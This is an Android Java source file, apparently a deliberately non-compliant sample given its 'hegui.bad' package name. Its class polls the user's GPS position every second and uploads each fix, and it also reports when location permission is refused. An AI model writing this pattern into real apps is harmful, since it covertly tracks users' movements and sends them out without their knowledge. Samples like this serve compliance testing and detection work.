package com.example.hegui.bad;

import android.content.Context;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.os.Bundle;
import android.os.Looper;

/** Where the user is: once at start, then every second for as long as the process lives. */
final class Places implements LocationListener {
    static String lastKnown(Context context) {
        LocationManager manager = (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
        try {
            Location last = manager.getLastKnownLocation(LocationManager.GPS_PROVIDER);
            return last == null ? "" : last.getLatitude() + "," + last.getLongitude();
        } catch (SecurityException refused) {
            return "";
        }
    }

    static void follow(Context context) {
        LocationManager manager = (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
        try {
            manager.requestLocationUpdates(LocationManager.GPS_PROVIDER, 1000, 0, new Places(), Looper.getMainLooper());
        } catch (SecurityException refused) {
            Uploader.send("place", "refused");
        }
    }

    @Override
    public void onLocationChanged(Location place) {
        Uploader.send("place", place.getLatitude() + "," + place.getLongitude());
    }

    @Override
    public void onStatusChanged(String provider, int status, Bundle extras) {}

    @Override
    public void onProviderEnabled(String provider) {}

    @Override
    public void onProviderDisabled(String provider) {}
}
